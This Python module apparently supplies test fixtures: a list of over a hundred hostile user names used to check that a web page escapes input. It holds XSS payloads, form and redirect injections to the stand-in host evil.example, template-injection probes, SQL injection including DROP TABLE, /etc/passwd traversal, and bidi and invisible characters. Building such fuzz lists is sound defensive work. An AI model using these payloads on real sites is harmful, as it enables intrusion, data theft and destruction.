"""A hundred names that would do something to a careless page."""

from __future__ import annotations

_CALL = "window.hit=1;alert(1)"
_MARKUP = (
    f"<script>{_CALL}</script>",
    f"</bdi><script>{_CALL}</script>",
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f'<img src="x" onerror="{_CALL}">',
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<body onload={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    f"<iframe src=\"javascript:parent.{_CALL}\"></iframe>",
    f'<a href="javascript:{_CALL}">x</a>',
    f"<math><mi//xlink:href=\"data:x,<script>{_CALL}</script>\">",
    f"<object data=\"javascript:{_CALL}\">",
    f"<embed src=\"javascript:{_CALL}\">",
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<style>*{display:none}</style>",
    "<form action='http://evil.example/'><button>Same</button></form>",
    "<button formaction='http://evil.example/'>x</button>",
    f"<x onclick={_CALL} style=position:fixed;inset:0>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title=\"</noscript><script>{_CALL}</script>\">",
    "<!--",
    "-->",
    "<![CDATA[",
    f"]]><script>{_CALL}</script>",
    "<plaintext>",
    "</table></main></body></html>",
)  # fmt: skip
_TEMPLATE = (
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{# hidden #}",
    "`${window.hit=1}`",
    "[[7*7]]",
    "@{7*7}",
)
_ATTRIBUTE = (
    f'" onmouseover="{_CALL}',
    f"' onmouseover='{_CALL}",
    f'" autofocus onfocus="{_CALL}" x="',
    f"x' data-key='s' onclick='{_CALL}",
    '" data-key="s',
    f"\" style=\"background:url(javascript:{_CALL})",
    "`onclick=alert(1)`",
    "&quot;><script>window.hit=1</script>",
    "&#34;&gt;&lt;script&gt;window.hit=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
)  # fmt: skip
_BIDI = tuple(f"Anna {code}retsiM{end}" for code, end in (
    ("\u202e", ""), ("\u202e", "\u202c"), ("\u202d", ""), ("\u2066", ""), ("\u2067", ""), ("\u2068", ""),
    ("\u2069", ""),    ("\u200e", ""), ("\u200f", ""), ("\u061c", ""), ("\u202a", ""), ("\u202b", ""),
))  # fmt: skip
_HIDDEN = tuple(f"An{code}na" for code in (
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u3164", "\u115f", "\u2800", "\ufe0f",
    "\U000e0041", "\u2028", "\u2029", "\x00", "\x07", "\x08", "\x1b[31m", "\x1b]0;x\x07", "\x7f", "\x85", "\r", "\n",
    "\t",
))  # fmt: skip
_ODD = (
    "Z" + "\u0300" * 200,
    "A" * 10_000,
    "й" * 5_000,
    "\U0001f600" * 300,
    "ﷺ" * 50,
    "a" + " " * 500 + "b",
    "Анна\u202e<script>window.hit=1</script>",
    "' OR 1=1 --",
    "'; DROP TABLE decision; --",
    "../../etc/passwd",
)
NAMES: tuple[str, ...] = (*_MARKUP, *_TEMPLATE, *_ATTRIBUTE, *_BIDI, *_HIDDEN, *_ODD)
assert len(NAMES) >= 100
